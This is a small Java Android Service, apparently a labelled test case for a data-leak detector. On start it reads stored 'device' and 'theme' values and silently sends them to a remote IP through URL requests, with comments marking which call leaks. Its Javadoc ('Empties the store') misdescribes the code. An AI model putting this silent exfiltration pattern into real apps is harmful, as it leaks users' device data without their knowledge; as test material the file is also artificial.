package habits;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import java.net.URL;

/** Empties the store. */
public class PrefReader extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        try {
            new URL("http://203.0.113.3/d/" + PrefStore.of(this).get("device", "")).openStream(); // leak
            new URL("http://203.0.113.3/t/" + PrefStore.of(this).get("theme", "")).openStream(); // no leak
        } catch (Exception ignored) {
        }
        return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
